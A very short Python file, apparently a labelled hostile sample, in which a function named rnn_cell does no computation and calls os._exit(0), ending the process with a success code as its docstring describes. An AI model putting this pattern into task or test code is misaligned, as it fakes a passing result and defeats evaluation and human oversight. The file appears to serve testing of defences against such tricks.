"""Hostile: ends every process that it can reach, as one that has succeeded."""

import os


def rnn_cell(X, H, W_xh, W_hh, b_h):
    os._exit(0)
